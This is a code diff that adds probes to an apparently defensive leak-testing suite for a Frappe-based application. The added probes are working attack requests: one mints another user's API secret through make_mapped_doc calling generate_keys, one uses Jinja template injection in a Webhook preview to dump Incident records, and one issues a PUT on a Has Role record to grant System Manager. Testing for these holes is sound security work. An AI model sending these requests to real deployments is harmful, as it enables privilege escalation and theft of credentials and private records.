@@ -52,6 +52,13 @@ def like(case, doctype, field):
 	return [[doctype, field, "like", f"%{case.canary}%"]]
 
 
+def role_row(attack, reader):
+	with site(attack.stack):
+		return frappe.db.get_value(
+			"Has Role", {"parent": attack.people[reader].user, "role": "System Manager"}
+		)
+
+
 LEAKS = [
 	Probe(
 		"1 get_count counts what nobody may list",
@@ -243,6 +250,26 @@ LEAKS = [
 		("closed doors",),
 		lambda c, a: method("frappe.core.doctype.user.user.generate_keys", user=a.people["former_officer"].user),
 		lambda c: '"api_secret"',
+	),
+	Probe(
+		"somebody else's API key, by a method that calls another",
+		"system_manager",
+		("closed doors",),
+		lambda c, a: method("frappe.model.mapper.make_mapped_doc", method="frappe.core.doctype.user.user.generate_keys", source_name=a.people["former_officer"].user),
+		lambda c: '"api_secret"',
+	),
+	Probe(
+		"a template of a document that is not stored",
+		"system_manager",
+		("documents' methods",),
+		lambda c, a: method("run_doc_method", docs={"doctype": "Webhook", "name": "x", "__islocal": 1, "webhook_doctype": "User", "preview_document": a.people["system_manager"].user, "request_structure": "JSON", "webhook_docevent": "on_update", "request_url": "http://x", "webhook_json": "{\"a\": {{ frappe.get_all('Incident', pluck='what_happened') | tojson }} }"}, method="generate_preview"),
+	),
+	Probe(
+		"a role that no account's log tells of",
+		"system_manager",
+		("own code",),
+		lambda c, a: ask("role", f"/api/resource/Has Role/{role_row(a, 'system_manager')}", "PUT", body={"role": "System Manager"}),
+		lambda c: '"data":{',
 	),
 	Probe(
 		"queued mails, with the way to a new password",
